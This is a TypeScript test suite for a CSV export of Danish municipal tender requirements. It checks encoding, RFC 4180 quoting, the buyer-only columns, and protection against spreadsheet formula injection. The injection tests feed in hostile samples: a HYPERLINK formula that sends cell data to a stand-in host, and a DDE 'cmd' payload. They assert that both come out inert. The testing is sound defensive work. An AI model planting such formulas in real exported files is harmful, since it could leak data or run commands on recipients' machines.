import { CSV_BUYER_COLUMNS, CSV_COLUMNS, guardFormula, quoteCell, renderCsvAnnex } from './csv-annex.js';
import { looksLikeFormula } from './spreadsheet-text.js';
import { FIXTURE_KEYS_IN_ORDER, makeSnapshot } from '../../../test/fixtures/export/snapshot.fixture.js';

/** A strict RFC 4180 reader with `;` as separator and CRLF between records, to read the export back. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quote');
        if (text[i] === '"' && text[i + 1] === '"') ((cell += '"'), (i += 2));
        else if (text[i] === '"') break;
        else cell += text[i++];
      }
      i++;
      if (i < text.length && text[i] !== ';' && text[i] !== '\r') throw new Error(`text after a closing quote at ${i}`);
    } else if (text[i] === ';') (record.push(cell), (cell = ''), i++);
    else if (text[i] === '\r') {
      if (text[i + 1] !== '\n') throw new Error(`bare CR at ${i}`);
      (record.push(cell), records.push(record), (record = []), (cell = ''), (i += 2));
    } else if (text[i] === '\n') throw new Error(`bare LF outside quotes at ${i}`);
    else cell += text[i++];
  }
  if (cell !== '' || record.length) throw new Error('the last record has no CRLF');
  return records;
}

const read = (body: Buffer) => {
  expect(body.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  return parseCsv(body.toString('utf8').slice(1));
};

describe('CSV export', () => {
  const snapshot = makeSnapshot();

  it('starts with a UTF-8 byte order mark, separates with ; and ends records with CRLF', () => {
    const body = renderCsvAnnex(snapshot, 'tender');
    const text = body.toString('utf8');
    expect(
      text.startsWith(
        '\ufeffKravnr.;Version;Kategori;Afsnit;Titel;Kravtekst;Type;Vægt;Kommunens bemærkning;Opfyldelsesgrad;Leverandørens besvarelse\r\n',
      ),
    ).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/"[^"]*"/g, '').match(/(?<!\r)\n/g)).toBeNull();
  });

  it('has one row per requirement in document order, with Danish values', () => {
    const [header, ...rows] = read(renderCsvAnnex(snapshot, 'tender'));
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(rows.map((r) => r[0])).toEqual(FIXTURE_KEYS_IN_ORDER);
    const row = (key: string) => Object.fromEntries(header.map((h, i) => [h, rows.find((r) => r[0] === key)![i]]));
    expect(row('SIK-022')).toEqual({
      'Kravnr.': 'SIK-022',
      Version: '1',
      Kategori: 'Informationssikkerhed',
      Afsnit: 'Logning og overvågning',
      Titel: 'Logning af sikkerhedshændelser',
      Kravtekst: snapshot.items.find((i) => i.key === 'SIK-022')!.statement,
      Type: 'EK',
      Vægt: '10',
      'Kommunens bemærkning': '',
      Opfyldelsesgrad: '',
      'Leverandørens besvarelse': '',
    });
    expect(row('LOK-1')).toMatchObject({ Version: '', Kategori: 'Kommunens egne krav', Afsnit: '', Type: 'MK', Vægt: '' });
    expect(row('RAM-003').Kravtekst).toContain('\n'); // a statement of two lines stays one cell
    expect(row('RAM-003')['Kommunens bemærkning']).toBe(
      'Løsningen skal som minimum kunne udveksle data med kommunens ESDH-system og økonomisystem.',
    );
  });

  it('adds Begrundelse, Vejledning and Verifikation in the buyer edition only', () => {
    const tender = renderCsvAnnex(snapshot, 'tender').toString('utf8');
    const [header, ...rows] = read(renderCsvAnnex(snapshot, 'buyer'));
    expect(header).toEqual([...CSV_COLUMNS, ...CSV_BUYER_COLUMNS]);
    const sik014 = rows.find((r) => r[0] === 'SIK-014')!;
    const item = snapshot.items.find((i) => i.key === 'SIK-014')!;
    expect(sik014.slice(-3)).toEqual([item.rationale, item.guidance, item.verification]);
    for (const i of snapshot.items)
      for (const t of [i.rationale, i.guidance, i.verification].filter(Boolean)) expect(tender).not.toContain(t);
    expect(tender).not.toMatch(/Begrundelse|Vejledning|Verifikation/);
  });

  it('quotes cells with quotes, separators and line breaks (RFC 4180)', () => {
    const s = makeSnapshot();
    s.items[0].title = 'Krav med "anførselstegn"; og semikolon';
    s.items[0].statement = 'Første linje\r\nAnden linje\rTredje linje';
    const rows = read(renderCsvAnnex(s, 'tender'));
    const row = rows.find((r) => r[0] === s.items[0].key)!;
    expect(row[4]).toBe('Krav med "anførselstegn"; og semikolon');
    expect(row[5]).toBe('Første linje\nAnden linje\nTredje linje');
    expect(renderCsvAnnex(s, 'tender').toString('utf8')).toContain(';"Krav med ""anførselstegn""; og semikolon";');
    expect(quoteCell('enkel')).toBe('enkel');
  });

  it('guards against formula injection with a leading apostrophe', () => {
    expect(['=1+1', '+45 12 34', '-2', '@SUM(A1)', '\tx', '\rx', 'almindelig'].map(guardFormula)).toEqual([
      "'=1+1",
      "'+45 12 34",
      "'-2",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
      'almindelig',
    ]);
    const s = makeSnapshot();
    s.items[0].title = '=HYPERLINK("http://ond.example/?x="&A1;"Klik")';
    s.items[0].note = '@cmd';
    s.items[0].statement = '\r\n=1+1';
    const row = read(renderCsvAnnex(s, 'tender')).find((r) => r[0] === s.items[0].key)!;
    expect(row[4]).toBe('\'=HYPERLINK("http://ond.example/?x="&A1;"Klik")');
    expect(row[8]).toBe("'@cmd");
    expect(row[5]).toBe("'\n=1+1");
  });

  it('keeps a formula inert when a control character stands in front of it, in local and bank text alike', () => {
    const s = makeSnapshot();
    const local = s.items.find((i) => i.key === 'LOK-1')!;
    const bank = s.items.find((i) => i.key === 'SIK-014')!;
    local.title = '\u0001=HYPERLINK("http://ond.example/?x="&A1;"Klik")';
    local.note = "\u0008@SUM(1+1)*cmd|' /C calc'!A0";
    bank.statement = '\u0002\u0003+1+1';
    bank.rationale = '\u007f-2+3';
    bank.guidance = '\u200b\u0001=1';
    for (const edition of ['tender', 'buyer'] as const) {
      const rows = read(renderCsvAnnex(s, edition));
      for (const row of rows) for (const cell of row) expect(looksLikeFormula(cell)).toBe(false);
      const row = rows.find((r) => r[0] === 'LOK-1')!;
      expect(row[4]).toBe('\'=HYPERLINK("http://ond.example/?x="&A1;"Klik")');
      expect(row[8]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
      expect(rows.find((r) => r[0] === 'SIK-014')![5]).toBe("'+1+1");
    }
  });
});
